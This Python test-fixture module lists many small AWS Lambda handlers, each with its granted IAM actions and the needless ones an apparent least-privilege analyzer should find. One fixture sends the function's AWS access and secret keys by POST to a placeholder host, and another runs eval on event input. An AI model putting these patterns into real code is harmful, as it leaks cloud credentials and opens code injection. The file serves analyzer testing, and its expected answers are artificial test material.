"""Functions whose needless rights are known: written in the ways in which people write them.

Each has the actions that it is granted (on everything), and those of them that it does not need.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType
from typing import NamedTuple


class Program(NamedTuple):
    """One function."""

    name: str
    granted: str
    needless: str
    code: str
    files: Mapping[str, str] = MappingProxyType({})
    undecided: str = ""
    """Services that must not be decided on."""


_T = "dynamodb:GetItem dynamodb:PutItem dynamodb:DeleteItem dynamodb:Query dynamodb:Scan"

PROGRAMS = (
    Program(
        "client in the handler",
        _T,
        "dynamodb:PutItem dynamodb:DeleteItem dynamodb:Query dynamodb:Scan",
        """
import boto3
def handler(event, context):
    client = boto3.client('dynamodb')
    return client.get_item(TableName='a', Key={})
""",
    ),
    Program(
        "resource of a module",
        _T,
        "dynamodb:GetItem dynamodb:DeleteItem dynamodb:Query dynamodb:Scan",
        """
import boto3, os
ddb = boto3.resource("dynamodb", region_name=os.environ["AWS_REGION"])
table = ddb.Table(os.environ["TABLE"])
def handler(event, context):
    table.put_item(Item=event)
""",
    ),
    Program(
        "session",
        "s3:GetObject s3:PutObject s3:DeleteObject",
        "s3:PutObject s3:DeleteObject",
        """
from boto3.session import Session
def handler(event, context):
    s3 = Session(region_name='eu-west-1').client(service_name='s3')
    return s3.get_object(Bucket='a', Key='b')['Body'].read()
""",
    ),
    Program(
        "renamed import",
        "sqs:SendMessage sqs:PurgeQueue",
        "sqs:PurgeQueue",
        """
import boto3 as aws
from os import environ as env
def handler(event, context):
    aws.client('sqs').send_message(QueueUrl=env.get('Q', 'x'), MessageBody='hi')
""",
    ),
    Program(
        "client made by a function",
        "sns:Publish sns:Subscribe",
        "sns:Subscribe",
        """
from boto3 import client
def _sns():
    return client('sns')
def handler(event, context):
    _sns().publish(TopicArn=event['t'], Message='m')
""",
    ),
    Program(
        "any client by a helper",
        "sns:Publish sqs:SendMessage sns:Subscribe",
        "sns:Subscribe",
        """
import boto3
from functools import lru_cache
@lru_cache(maxsize=None)
def get(name):
    return boto3.client(name)
def handler(event, context):
    get('sns').publish(TopicArn='a', Message='m')
    get('sqs').send_message(QueueUrl='q', MessageBody='m')
""",
    ),
    Program(
        "class with a client",
        _T,
        "dynamodb:PutItem dynamodb:DeleteItem dynamodb:Scan dynamodb:GetItem",
        """
import boto3
class Orders:
    def __init__(self, name, client=None):
        self.table = (client or boto3.resource('dynamodb')).Table(name)
    def of(self, who):
        return self.table.query(KeyConditionExpression=who)
    def drop(self, what):
        self.table.delete_item(Key=what)
orders = Orders('orders')
def handler(event, context):
    return orders.of(event['who'])
""",
    ),
    Program(
        "inherited method and property",
        "s3:GetObject s3:ListBucket s3:DeleteObject",
        "s3:DeleteObject",
        """
import boto3
class Base:
    @property
    def s3(self):
        return boto3.client('s3')
    def read(self, key):
        return self.s3.get_object(Bucket='b', Key=key)
class Store(Base):
    def all(self):
        return self.s3.list_objects_v2(Bucket='b')['Contents']
def handler(event, context):
    store = Store()
    return [store.read(each['Key']) for each in store.all()]
""",
    ),
    Program(
        "lazy global",
        "kms:Decrypt kms:Encrypt kms:ScheduleKeyDeletion",
        "kms:Encrypt kms:ScheduleKeyDeletion",
        """
import boto3, base64
_kms = None
def kms():
    global _kms
    if _kms is None:
        _kms = boto3.client('kms')
    return _kms
def handler(event, context):
    return kms().decrypt(CiphertextBlob=base64.b64decode(event['x']))
""",
    ),
    Program(
        "own module",
        _T,
        "dynamodb:PutItem dynamodb:DeleteItem dynamodb:GetItem dynamodb:Query",
        """
from lib.db import everything
def handler(event, context):
    return everything()
""",
        {
            "src/lib/__init__.py": "",
            "src/lib/db.py": """
import boto3
table = boto3.resource('dynamodb').Table('a')
def everything():
    return table.scan()['Items']
def remove(key):
    table.delete_item(Key=key)
""",
        },
    ),
    Program(
        "relative import of an object",
        "sqs:SendMessage sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
import clients
from clients import queue as q
def handler(event, context):
    q.send_message_batch(QueueUrl='u', Entries=[])
""",
        {"src/clients.py": "import boto3\nqueue = boto3.client('sqs')\n"},
    ),
    Program(
        "star import",
        "ses:SendEmail ses:DeleteIdentity",
        "ses:DeleteIdentity",
        """
from mail import *
def handler(event, context):
    send(event['to'])
""",
        {
            "src/mail.py": """
import boto3
ses = boto3.client('ses')
def send(to):
    ses.send_email(Source='a', Destination={'ToAddresses': [to]}, Message={})
"""
        },
    ),
    Program(
        "paginator",
        "s3:ListBucket s3:GetObject",
        "s3:GetObject",
        """
import boto3
s3 = boto3.client('s3')
def handler(event, context):
    pages = s3.get_paginator('list_objects_v2')
    for page in pages.paginate(Bucket='b'):
        print(page)
""",
    ),
    Program(
        "waiter",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        """
import boto3
s3 = boto3.client('s3')
def handler(event, context):
    s3.get_waiter('object_exists').wait(Bucket='b', Key='k')
""",
    ),
    Program(
        "transfer up and down",
        "s3:GetObject s3:PutObject s3:AbortMultipartUpload s3:ListBucket s3:DeleteObject",
        "s3:ListBucket s3:DeleteObject",
        """
import boto3
s3 = boto3.client('s3')
def handler(event, context):
    s3.download_file('in', event['key'], '/tmp/x')
    s3.upload_file('/tmp/x', 'out', event['key'])
""",
    ),
    Program(
        "objects of a bucket",
        "s3:ListBucket s3:DeleteObject s3:PutObject",
        "s3:PutObject",
        """
import boto3
bucket = boto3.resource('s3').Bucket('b')
def handler(event, context):
    for each in bucket.objects.filter(Prefix='old/'):
        each.delete()
""",
    ),
    Program(
        "object of a resource",
        "s3:PutObject s3:GetObject",
        "s3:GetObject",
        """
import boto3
def handler(event, context):
    boto3.resource('s3').Object('b', event['k']).put(Body=b'x')
""",
    ),
    Program(
        "batch writer",
        "dynamodb:BatchWriteItem dynamodb:PutItem dynamodb:Scan",
        "dynamodb:PutItem dynamodb:Scan",
        """
import boto3
table = boto3.resource('dynamodb').Table('t')
def handler(event, context):
    with table.batch_writer() as batch:
        for each in event['items']:
            batch.put_item(Item=each)
""",
    ),
    Program(
        "transaction",
        _T + " dynamodb:UpdateItem",
        "dynamodb:GetItem dynamodb:DeleteItem dynamodb:Query dynamodb:Scan",
        """
import boto3
client = boto3.client('dynamodb')
def handler(event, context):
    client.transact_write_items(TransactItems=[
        {'Put': {'TableName': 'a', 'Item': {}}},
        {'Update': {'TableName': 'a', 'Key': {}, 'UpdateExpression': 'SET x = :x'}},
    ])
""",
    ),
    Program(
        "getattr with names that are known",
        "sqs:SendMessage sqs:ReceiveMessage sqs:PurgeQueue",
        "sqs:PurgeQueue",
        """
import boto3
sqs = boto3.client('sqs')
def handler(event, context):
    for name in ('send_message', 'receive_message'):
        getattr(sqs, name)(QueueUrl='u')
""",
    ),
    Program(
        "getattr with a name from outside",
        "sqs:SendMessage sqs:PurgeQueue s3:GetObject",
        "s3:GetObject",
        """
import boto3
sqs = boto3.client('sqs')
def handler(event, context):
    getattr(sqs, event['what'])(QueueUrl='u')
""",
        undecided="sqs",
    ),
    Program(
        "clients in a map",
        "sns:Publish sqs:SendMessage s3:PutObject",
        "s3:PutObject",
        """
import boto3
CLIENTS = {name: boto3.client(name) for name in ['sns', 'sqs']}
def handler(event, context):
    CLIENTS['sns'].publish(TopicArn='a', Message='b')
    CLIENTS['sqs'].send_message(QueueUrl='a', MessageBody='b')
""",
    ),
    Program(
        "handlers in a map",
        _T,
        "dynamodb:Query dynamodb:Scan dynamodb:DeleteItem",
        """
import boto3
t = boto3.resource('dynamodb').Table('t')
def read(e): return t.get_item(Key=e)
def write(e): return t.put_item(Item=e)
def drop(e): return t.delete_item(Key=e)
ROUTES = {'GET': read, 'POST': write}
def handler(event, context):
    return ROUTES[event['httpMethod']](event)
""",
    ),
    Program(
        "dispatch in a function",
        _T,
        "dynamodb:Query dynamodb:Scan dynamodb:DeleteItem dynamodb:PutItem",
        """
import boto3
def with_table(work):
    return work(boto3.resource('dynamodb').Table('t'))
def handler(event, context):
    return with_table(lambda table: table.get_item(Key=event))
""",
    ),
    Program(
        "parameters by keyword",
        "lambda:InvokeFunction lambda:UpdateFunctionCode",
        "lambda:UpdateFunctionCode",
        """
import boto3, json
def call(*, client, name, payload):
    return client.invoke(FunctionName=name, Payload=json.dumps(payload))
def handler(event, context):
    return call(client=boto3.client('lambda'), name='f', payload=event)
""",
    ),
    Program(
        "keywords in a map",
        "dynamodb:Query dynamodb:Scan",
        "dynamodb:Scan",
        """
import boto3
table = boto3.resource('dynamodb').Table('t')
def handler(event, context):
    wanted = dict(KeyConditionExpression='a', Limit=5)
    while True:
        found = table.query(**wanted)
        if 'LastEvaluatedKey' not in found:
            return found
        wanted['ExclusiveStartKey'] = found['LastEvaluatedKey']
""",
    ),
    Program(
        "method kept in a name",
        "s3:PutObject s3:GetObject",
        "s3:GetObject",
        """
import boto3
put = boto3.client('s3').put_object
def handler(event, context):
    put(Bucket='b', Key='k', Body=b'')
""",
    ),
    Program(
        "partial and threads",
        "s3:PutObject s3:GetObject s3:DeleteObject",
        "s3:DeleteObject",
        """
import boto3
from concurrent.futures import ThreadPoolExecutor
from functools import partial
s3 = boto3.client('s3')
def one(key):
    return s3.get_object(Bucket='b', Key=key)
def handler(event, context):
    write = partial(s3.put_object, Bucket='b')
    with ThreadPoolExecutor() as pool:
        found = list(pool.map(one, event['keys']))
        pool.submit(write, Key='k', Body=b'')
    return found
""",
    ),
    Program(
        "asynchronous",
        _T,
        "dynamodb:PutItem dynamodb:DeleteItem dynamodb:Query dynamodb:Scan",
        """
import asyncio, aioboto3
session = aioboto3.Session()
async def read(key):
    async with session.resource('dynamodb') as dynamo:
        table = await dynamo.Table('t')
        return await table.get_item(Key=key)
def handler(event, context):
    return asyncio.run(read(event['key']))
""",
    ),
    Program(
        "context manager of one's own",
        "rds-data:ExecuteStatement rds-data:BeginTransaction rds-data:CommitTransaction",
        "",
        """
import boto3
from contextlib import contextmanager
@contextmanager
def transaction():
    client = boto3.client('rds-data')
    found = client.begin_transaction(resourceArn='a', secretArn='b')
    yield client
    client.commit_transaction(transactionId=found['transactionId'])
def handler(event, context):
    with transaction() as client:
        client.execute_statement(sql='select 1')
""",
    ),
    Program(
        "decorated",
        "cloudwatch:PutMetricData ssm:GetParameter ssm:PutParameter",
        "ssm:PutParameter",
        """
import boto3, functools
def counted(work):
    @functools.wraps(work)
    def inner(*args, **kwargs):
        boto3.client('cloudwatch').put_metric_data(Namespace='a', MetricData=[])
        return work(*args, **kwargs)
    return inner
@counted
def handler(event, context):
    return boto3.client('ssm').get_parameter(Name='/a/b', WithDecryption=True)
""",
    ),
    Program(
        "Powertools parameters",
        "ssm:GetParameter ssm:PutParameter secretsmanager:GetSecretValue secretsmanager:PutSecretValue",
        "ssm:PutParameter secretsmanager:PutSecretValue",
        """
from aws_lambda_powertools import Logger, Tracer
from aws_lambda_powertools.utilities import parameters
from aws_lambda_powertools.utilities.parameters import get_secret
logger, tracer = Logger(), Tracer()
@tracer.capture_lambda_handler
@logger.inject_lambda_context
def handler(event, context):
    return parameters.get_parameter('/a'), get_secret('b')
""",
    ),
    Program(
        "Powertools idempotency and routes",
        _T + " dynamodb:UpdateItem",
        "dynamodb:Query",
        """
import boto3
from aws_lambda_powertools.event_handler import APIGatewayRestResolver
from aws_lambda_powertools.utilities.idempotency import DynamoDBPersistenceLayer, idempotent
app = APIGatewayRestResolver()
layer = DynamoDBPersistenceLayer(table_name='idem')
table = boto3.resource('dynamodb').Table('t')
@app.get('/things')
def things():
    return table.scan()
@idempotent(persistence_store=layer)
def handler(event, context):
    return app.resolve(event, context)
""",
    ),
    Program(
        "Flask behind an adapter",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        """
import boto3, serverless_wsgi
from flask import Flask
app = Flask(__name__)
s3 = boto3.client('s3')
@app.route('/<key>')
def show(key):
    return s3.get_object(Bucket='b', Key=key)['Body'].read()
def handler(event, context):
    return serverless_wsgi.handle_request(app, event, context)
""",
    ),
    Program(
        "what is never called",
        "s3:GetObject s3:DeleteObject",
        "s3:DeleteObject",
        """
import boto3
s3 = boto3.client('s3')
def clean():
    s3.delete_object(Bucket='b', Key='k')
def handler(event, context):
    return s3.get_object(Bucket='b', Key='k')
if __name__ == '__main__':
    clean()
""",
    ),
    Program(
        "a presigned URL",
        "s3:GetObject s3:PutObject s3:DeleteObject",
        "s3:GetObject s3:DeleteObject",
        """
import boto3
def handler(event, context):
    return boto3.client('s3').generate_presigned_url(
        'put_object', Params={'Bucket': 'b', 'Key': event['k']}, ExpiresIn=60)
""",
    ),
    Program(
        "a client for a foreign role",
        "sts:AssumeRole s3:PutObject s3:GetObject",
        "s3:PutObject s3:GetObject",
        """
import boto3
def handler(event, context):
    c = boto3.client('sts').assume_role(RoleArn='a', RoleSessionName='b')['Credentials']
    s3 = boto3.client('s3', aws_access_key_id=c['AccessKeyId'],
        aws_secret_access_key=c['SecretAccessKey'], aws_session_token=c['SessionToken'])
    s3.put_object(Bucket='b', Key='k')
""",
    ),
    Program(
        "passed to a library that is not here",
        "sqs:PurgeQueue s3:PutObject",
        "",
        """
import boto3
from mystery import work
def handler(event, context):
    work(boto3.client('sqs'))
""",
        undecided="* sqs",
    ),
    Program(
        "passed to a library that is known",
        "sqs:PurgeQueue s3:PutObject",
        "s3:PutObject",
        """
import boto3, pandas
def handler(event, context):
    pandas.strange(boto3.client('sqs'))
""",
        undecided="sqs",
    ),
    Program(
        "service by a name from outside",
        "sqs:PurgeQueue s3:PutObject",
        "",
        """
import boto3
def handler(event, context):
    boto3.client(event['service']).list_buckets()
""",
        undecided="*",
    ),
    Program(
        "code that is made",
        "sqs:PurgeQueue",
        "",
        """
def handler(event, context):
    return eval(event['expression'])
""",
        undecided="*",
    ),
    Program(
        "signed by hand",
        "es:ESHttpGet sqs:PurgeQueue",
        "sqs:PurgeQueue",
        """
import boto3, requests
from requests_aws4auth import AWS4Auth
def handler(event, context):
    c = boto3.Session().get_credentials()
    auth = AWS4Auth(c.access_key, c.secret_key, 'eu', 'es', session_token=c.token)
    return requests.get('https://x', auth=auth).text
""",
        undecided="es",
    ),
    Program(
        "credentials given away",
        "sqs:PurgeQueue",
        "",
        """
import boto3, requests
def handler(event, context):
    keys = boto3.Session().get_credentials().get_frozen_credentials()
    requests.post('https://x', json={'id': keys.access_key, 'key': keys.secret_key})
""",
        undecided="*",
    ),
    Program(
        "role handed to a machine",
        "ec2:AssociateIamInstanceProfile iam:PassRole iam:PutRolePolicy",
        "iam:PutRolePolicy",
        """
import boto3
def handler(event, context):
    boto3.client('ec2').associate_iam_instance_profile(InstanceId='i', IamInstanceProfile={})
""",
    ),
    Program(
        "outer name set by an inner function",
        "sqs:SendMessage sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
import boto3
def handler(event, context):
    queue = None
    def begin():
        nonlocal queue
        queue = boto3.client('sqs')
    begin()
    queue.send_message(QueueUrl='u', MessageBody='x')
""",
    ),
    Program(
        "a name that its module does not have",
        "sqs:DeleteQueue",
        "",
        """
from shared import work
def handler(event, context):
    work(event)
""",
        {"src/shared.py": "def other():\n    pass\n"},
        undecided="*",
    ),
    Program(
        "a layer beside the function, and its namesake",
        "sqs:SendMessage sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
from shared import work
def handler(event, context):
    work(event)
""",
        {
            "layers/base/python/shared.py": "import boto3\ndef work(event):\n"
            "    boto3.client('sqs').send_message(QueueUrl='q', MessageBody='m')\n",
            "other/shared.py": "def work(event):\n    pass\n",
        },
    ),
    Program(
        "a name that nothing binds",
        "sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
def handler(event, context):
    nowhere(event)
""",
    ),
    Program(
        "a name that builtins may have",
        "sqs:DeleteQueue",
        "",
        """
import builtins

def handler(event, context):
    builtins.nowhere = event
    nowhere(event)
""",
        undecided="*",
    ),
    Program(
        "API Gateway by verbs",
        "apigateway:PATCH apigateway:DELETE",
        "apigateway:DELETE",
        """
import boto3
def handler(event, context):
    boto3.client('apigateway').update_usage_plan(usagePlanId='a', patchOperations=[])
""",
    ),
    Program(
        "Step Functions and events",
        "states:StartExecution states:StopExecution events:PutEvents events:PutRule",
        "states:StopExecution events:PutRule",
        """
import boto3, json
steps, bus = boto3.client('stepfunctions'), boto3.client('events')
def handler(event, context):
    steps.start_execution(stateMachineArn='a', input=json.dumps(event))
    bus.put_events(Entries=[{'Source': 'a', 'DetailType': 'b', 'Detail': '{}'}])
""",
    ),
    Program(
        "WebSocket",
        "execute-api:ManageConnections execute-api:Invoke",
        "execute-api:Invoke",
        """
import boto3
def handler(event, context):
    api = boto3.client('apigatewaymanagementapi', endpoint_url='https://' + event['domain'])
    api.post_to_connection(ConnectionId='c', Data=b'x')
""",
    ),
    Program(
        "queue by its name",
        "sqs:GetQueueUrl sqs:SendMessage sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
import boto3
def handler(event, context):
    boto3.resource('sqs').get_queue_by_name(QueueName='q').send_message(MessageBody='x')
""",
    ),
    Program(
        "named tuple of clients and a loop",
        "sns:Publish sqs:SendMessage sqs:DeleteQueue",
        "sqs:DeleteQueue",
        """
import boto3
from dataclasses import dataclass
@dataclass
class Aws:
    sns: object
    sqs: object
def handler(event, context):
    aws = Aws(boto3.client('sns'), sqs=boto3.client('sqs'))
    for work in (tell, put):
        work(aws, event)
def tell(aws, event):
    aws.sns.publish(Message='m', TopicArn='a')
def put(aws, event):
    aws.sqs.send_message(QueueUrl='u', MessageBody='m')
""",
    ),
    Program(
        "wildcard, one call",
        "sqs:Send* sqs:Get*",
        "sqs:GetQueueAttributes sqs:GetQueueUrl",
        """
import boto3
def handler(event, context):
    boto3.client('sqs').send_message(QueueUrl='q', MessageBody='m')
""",
    ),
    Program(
        "no SDK at all",
        "dynamodb:GetItem sqs:SendMessage",
        "dynamodb:GetItem sqs:SendMessage",
        """
import json, urllib3
def handler(event, context):
    return json.loads(urllib3.PoolManager().request('GET', 'https://example.com').data)
""",
    ),
    Program(
        "client set on a module",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        """
import boto3, shared
shared.s3 = boto3.client('s3')
def handler(event, context):
    return shared.read(event['k'])
""",
        {"src/shared.py": "s3 = None\ndef read(k):\n    return s3.get_object(Bucket='b', Key=k)\n"},
    ),
    Program(
        "attribute of the framework",
        "s3:GetObject s3:PutObject",
        "s3:PutObject",
        """
import boto3
from flask import g
def before():
    g.store = boto3.client('s3')
def handler(event, context):
    before()
    return g.store.get_object(Bucket='b', Key='k')
""",
    ),
    Program(
        "generator of pages",
        "dynamodb:Scan dynamodb:Query dynamodb:DeleteItem",
        "dynamodb:Query",
        """
import boto3
def tables():
    for name in ('a', 'b'):
        yield boto3.resource('dynamodb').Table(name)
def handler(event, context):
    for table in tables():
        for each in table.scan()['Items']:
            table.delete_item(Key=each)
""",
    ),
    Program(
        "match and walrus",
        "sqs:SendMessage sns:Publish s3:GetObject",
        "s3:GetObject",
        """
import boto3
def handler(event, context):
    if (client := boto3.client('sqs')):
        client.send_message(QueueUrl='q', MessageBody='x')
    match boto3.client('sns'):
        case found:
            found.publish(Message='x', TopicArn='t')
""",
    ),
    Program(
        "tuple unpacking and starred",
        "sqs:SendMessage sns:Publish s3:GetObject",
        "s3:GetObject",
        """
import boto3
def make(*names):
    return [boto3.client(n) for n in names]
def handler(event, context):
    one, other = make('sqs', 'sns')
    one.send_message(QueueUrl='q', MessageBody='x')
    other.publish(Message='x', TopicArn='t')
""",
    ),
    Program(
        "metaclass-free registry",
        "sqs:SendMessage sns:Publish s3:GetObject",
        "sns:Publish s3:GetObject",
        """
import boto3
REGISTRY = {}
def register(cls):
    REGISTRY[cls.__name__] = cls
    return cls
@register
class Queue:
    def run(self, event):
        boto3.client('sqs').send_message(QueueUrl='q', MessageBody='x')
def handler(event, context):
    REGISTRY[event['kind']]().run(event)
""",
    ),
)
